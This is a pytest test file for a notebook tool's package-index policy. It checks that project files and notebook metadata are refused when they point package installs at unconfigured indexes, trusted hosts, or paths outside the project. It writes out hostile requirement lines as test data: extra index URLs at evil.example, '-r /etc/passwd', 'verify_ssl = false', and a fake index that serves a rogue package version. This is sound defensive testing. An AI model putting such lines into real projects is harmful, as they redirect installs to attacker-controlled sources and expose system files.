"""Hostile requirement lines in every source a project has: indexes, find-links and trusted
hosts come from the user's configuration (the profile's ``[indexes] allowed``, uv's and pip's
environment variables) only. A project that names another one is refused, before uv runs,
with the line shown and the line that would allow it; the index it named gets no request."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from jupyter_orbit import indexes
from jupyter_orbit.bazaar import edit
from jupyter_orbit.errors import OrbitError
from jupyter_orbit.indexes import IndexPolicy, IndexRefused
from jupyter_orbit.paths import Paths
from jupyter_orbit.prepare import Choices, prepare
from tests.conftest import Orbit, make_notebook, snapshot
from tests.support.pypi_index import LocalIndex

EVIL = "http://127.0.0.1:9/simple"


@pytest.fixture(autouse=True)
def _no_user_indexes(monkeypatch: pytest.MonkeyPatch) -> None:
    for key in indexes._ENV_URLS:
        monkeypatch.delenv(key, raising=False)


def _pep723(toml: str) -> str:
    body = "".join(f"# {line}\n" if line else "#\n" for line in toml.splitlines())
    return f"# /// script\n{body}# ///\nimport six\n"


def _notebook(root: Path, cell: str = "1", **orbit) -> Path:
    meta = {"orbit": {"as_of": "2025-06-01", **orbit}}
    return make_notebook(root / "nb.ipynb", cell, metadata=meta)


# (what the attack writes into the project, the file the refusal names)
SOURCES = {
    "requirements -i": ({"requirements.txt": f"six\n-i {EVIL}\n"}, "requirements.txt:2:"),
    "requirements --index-url=": (
        {"requirements.txt": f"six\n--index-url={EVIL}\n"},
        "requirements.txt:2:",
    ),
    "requirements --extra-index-url": (
        {"requirements.txt": f"--extra-index-url {EVIL}\nsix\n"},
        "requirements.txt:1:",
    ),
    "requirements --find-links /etc": (  # refused as a path leaving the project, at its line
        {"requirements.txt": "six\n--find-links /etc\n"},
        "requirements.txt:2: path /etc points outside the project folder",
    ),
    "requirements -f file URL": (
        {"requirements.txt": "six\n-f file:///etc\n"},
        "requirements.txt:2:",
    ),
    "requirements --trusted-host": (
        {"requirements.txt": "six\n--trusted-host evil.example\n"},
        "requirements.txt:2:",
    ),
    "requirements -r include": (
        {"requirements.txt": "six\n-r more.txt\n", "more.txt": f"# more\n-i {EVIL}\n"},
        "more.txt:2:",
    ),
    "environment.yml pip list": (
        {
            "environment.yml": (
                "name: x\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n"
                f"    - --index-url {EVIL}\n    - six\n"
            )
        },
        "environment.yml:6:",
    ),
    "Pipfile source": (
        {
            "Pipfile": (
                f'[[source]]\nname = "evil"\nurl = "{EVIL}"\nverify_ssl = true\n\n'
                '[packages]\nsix = "*"\n'
            )
        },
        "Pipfile:3:",
    ),
    "Pipfile source without TLS checks": (
        {
            "Pipfile": (
                '[[source]]\nname = "pypi"\nurl = "https://pypi.org/simple"\nverify_ssl = true\n'
                '\n[[source]]\nname = "evil"\nurl = "https://evil.example/simple"\n'
                'verify_ssl = false\n\n[packages]\nsix = "*"\n'
            )
        },
        "Pipfile:",
    ),
}


@pytest.mark.parametrize("case", list(SOURCES))
def test_project_files_naming_an_index_are_refused(tmp_path: Path, case: str):
    files, where = SOURCES[case]
    root = tmp_path / "proj"
    root.mkdir()
    (root / ".git").mkdir()
    for name, text in files.items():
        (root / name).write_text(text)
    nb = _notebook(root)
    paths = Paths(tmp_path / "orbit-home")
    settings = paths.profile("default").settings_file
    before = snapshot(root)
    with pytest.raises(OrbitError) as e:
        prepare(nb, Choices(indexes=IndexPolicy((), settings)), paths, until="lookup")
    assert where in str(e.value), str(e.value)
    if isinstance(e.value, IndexRefused):
        assert "your configuration does not have" in e.value.message
        assert f"({settings}, [indexes] allowed)" in e.value.hint
        assert "orbit config set indexes.allowed '[\"" in e.value.hint
    assert snapshot(root) == before
    assert not (paths.home / "envs").exists()  # nothing looked up, nothing built


NOTEBOOK_SOURCES = {
    "PEP 723 [tool.uv] index-url": _pep723(
        f'dependencies = ["six"]\n\n[tool.uv]\nindex-url = "{EVIL}"'
    ),
    "PEP 723 [tool.uv] extra-index-url": _pep723(
        f'dependencies = ["six"]\n\n[tool.uv]\nextra-index-url = ["{EVIL}"]'
    ),
    "PEP 723 [tool.uv] find-links": _pep723(
        'dependencies = ["six"]\n\n[tool.uv]\nfind-links = ["/etc"]'
    ),
    "PEP 723 [[tool.uv.index]]": _pep723(
        f'dependencies = ["six"]\n\n[[tool.uv.index]]\nurl = "{EVIL}"\ndefault = true'
    ),
}


@pytest.mark.parametrize("case", list(NOTEBOOK_SOURCES))
def test_a_pep723_block_naming_an_index_is_refused(tmp_path: Path, case: str):
    nb = _notebook(tmp_path, NOTEBOOK_SOURCES[case])
    with pytest.raises(IndexRefused) as e:
        prepare(nb, Choices(indexes=IndexPolicy()), Paths(tmp_path / "h"), until="lookup")
    assert "nb.ipynb:" in e.value.message


@pytest.mark.parametrize(
    "option", [f"--index-url {EVIL}", "--find-links /etc", "--trusted-host evil.example"]
)
def test_notebook_metadata_naming_an_index_is_refused(tmp_path: Path, option: str):
    nb = _notebook(tmp_path, packages={"pypi": ["six"]}, index_options=[option])
    with pytest.raises(IndexRefused) as e:
        prepare(nb, Choices(indexes=IndexPolicy()), Paths(tmp_path / "h"), until="lookup")
    assert "nb.ipynb:" in e.value.message and option.split()[-1] in e.value.message


def test_what_the_user_configured_is_allowed(tmp_path: Path, monkeypatch):
    root = tmp_path / "proj"
    root.mkdir()
    (root / "wheels").mkdir()
    (root / "requirements.txt").write_text(
        f"six\n--extra-index-url {EVIL}/\n-f ./wheels\n--index-url https://mirror.example/simple\n"
    )
    nb = _notebook(root)
    paths = Paths(tmp_path / "h")
    monkeypatch.setenv("UV_INDEX", "mirror=https://mirror.example/simple")
    monkeypatch.setenv("UV_OFFLINE", "1")  # allowed, but nothing answers: fitting to the date
    # is left undecided, without a wait on the network
    # the project's own wheel folder is part of the project; the rest is configured
    policy = IndexPolicy((EVIL,))
    prepare(nb, Choices(indexes=policy), paths, until="lookup")
    monkeypatch.delenv("UV_INDEX")
    with pytest.raises(IndexRefused, match=r"mirror\.example"):
        prepare(nb, Choices(indexes=policy), paths, until="lookup")


def test_the_profile_setting_allows_an_index(tmp_path: Path):
    paths = Paths(tmp_path / "h")
    from jupyter_orbit.profiles.store import ProfileStore

    store = ProfileStore(paths)
    settings = store.settings("default", create=True)
    text = settings_text = store.profile("default").settings_file.read_text()
    assert "[indexes]\nallowed = []" in text  # the place to allow one is in every profile
    (store.profile("default").settings_file).write_text(
        settings_text.replace("allowed = []", f'allowed = ["{EVIL}"]')
    )
    assert IndexPolicy.for_profile(paths, "default").allowed == (EVIL,)
    assert settings.allowed_indexes == ()


def test_orbit_add_is_refused_before_uv_runs(tmp_path: Path):
    root = tmp_path / "proj"
    root.mkdir()
    (root / "requirements.txt").write_text(f"six\n-i {EVIL}\n")
    before = snapshot(root)
    with pytest.raises(IndexRefused):
        edit.run(Paths(tmp_path / "h"), root, ["orbit-new"], indexes=IndexPolicy())
    assert snapshot(root) == before


# -- end to end: a real index, real uv --------------------------------------------------------


@pytest.fixture
def evil_index(tmp_path: Path):
    """An index that offers `tomli` at a version no real index has (what an attacker would
    serve), and counts every request. (A package the kernel itself does not import, so the
    kernel starts with it and the cell can tell whose copy it got.)"""
    with LocalIndex(tmp_path / "evil") as idx:
        idx.add("tomli", "99.0", {"tomli.py": "EVIL = True\n"})
        yield idx


@pytest.mark.integration
def test_a_trusted_project_cannot_point_uv_at_its_index(orbit: Orbit, tmp_path, evil_index):
    root = tmp_path / "proj"
    root.mkdir()
    (root / "requirements.txt").write_text(f"--extra-index-url {evil_index.url}\ntomli\n")
    nb = _notebook(root, "import tomli; print(getattr(tomli, 'EVIL', False))")
    r = orbit.run("run", str(nb), "--yes")  # --yes: the project is trusted for this run
    assert r.returncode == 2, r.stderr
    assert "your configuration does not have" in r.stderr
    assert f"requirements.txt:1: '--extra-index-url {evil_index.url}'" in r.stderr
    assert f"""orbit config set indexes.allowed '["{evil_index.url}"]'""" in r.stderr
    assert evil_index.requests == []  # uv never asked it
    assert not list((orbit.home / "envs" / "local").glob("[0-9a-f]*"))

    # Allowed in the profile (as the hint says), the same line is honoured: uv installs from it.
    r = orbit.run("config", "set", "indexes.allowed", json.dumps([evil_index.url]))
    assert r.returncode == 0, r.stderr
    r = orbit.run("run", str(nb), "--yes", "-o", str(tmp_path / "out.ipynb"))
    assert r.returncode == 0, r.stderr
    out = json.loads((tmp_path / "out.ipynb").read_text())
    assert "".join(out["cells"][0]["outputs"][0]["text"]).strip() == "True"
    assert evil_index.requests


# -- other lines that reach outside the project ------------------------------------------------

OUTSIDE = {
    "requirements -r /etc/passwd": (
        {"requirements.txt": "-r /etc/passwd\n"},
        "included file /etc/passwd points outside the project folder",
    ),
    "requirements -c ../outside": (
        {"requirements.txt": "six\n-c ../../outside.txt\n"},
        "outside.txt points outside the project folder",
    ),
    "requirements -e ../..": (
        {"requirements.txt": "-e ../..\n"},
        "points outside the project folder",
    ),
    "requirements file: URL outside": (
        {"requirements.txt": "evil @ file:///etc\n"},
        "requirements.txt:1: 'evil @ file:///etc'",
    ),
    "environment.yml pip -r outside": (
        {"environment.yml": "dependencies:\n  - pip:\n    - -r /etc/passwd\n"},
        "points outside the project folder",
    ),
}


@pytest.mark.parametrize("case", list(OUTSIDE))
def test_lines_reaching_outside_the_project_are_refused(tmp_path: Path, case: str):
    files, message = OUTSIDE[case]
    root = tmp_path / "a" / "b" / "proj"
    root.mkdir(parents=True)
    (root / ".git").mkdir()
    for name, text in files.items():
        (root / name).write_text(text)
    nb = _notebook(root)
    with pytest.raises(OrbitError, match=message.replace(".", r"\.")):
        prepare(nb, Choices(indexes=IndexPolicy()), Paths(tmp_path / "h"), until="lookup")


DIRECT = {
    "requirements direct URL": {"requirements.txt": "six @ https://evil.example/six-1.0.whl\n"},
    "requirements git URL": {"requirements.txt": "git+https://evil.example/six.git#egg=six\n"},
    "pyproject direct URL": {
        "pyproject.toml": '[project]\nname = "p"\ndependencies = ["six @ https://evil.example/s.whl"]\n'
    },
    "PEP 723 direct URL": {},
    "npm tarball": {},
}


@pytest.mark.parametrize("case", list(DIRECT))
def test_direct_references_need_trust_and_are_reported(tmp_path: Path, case: str):
    """A direct URL names one package's file, not an index: it is the project's to declare,
    so it needs the project's trust (not the profile's) and is always reported."""
    from jupyter_orbit.errors import TrustError
    from jupyter_orbit.prepare import Consent

    root = tmp_path / "proj"
    root.mkdir()
    (root / ".git").mkdir()
    for name, text in DIRECT[case].items():
        (root / name).write_text(text)
    cell, packages = "1", {}
    if case == "PEP 723 direct URL":
        cell = _pep723('dependencies = ["six @ https://evil.example/six-1.0.whl"]')
    if case == "npm tarball":
        packages = {"npm": ["left-pad@https://evil.example/left-pad.tgz"]}
    nb = _notebook(root, cell, **({"packages": packages} if packages else {}))
    paths = Paths(tmp_path / "h")
    res = prepare(nb, Choices(indexes=IndexPolicy()), paths, until="lookup").resolution
    assert any("evil.example" in s for s in res.source_changing), res.source_changing
    with pytest.raises(TrustError):
        Consent(trusted_folders=True).check(paths, res)
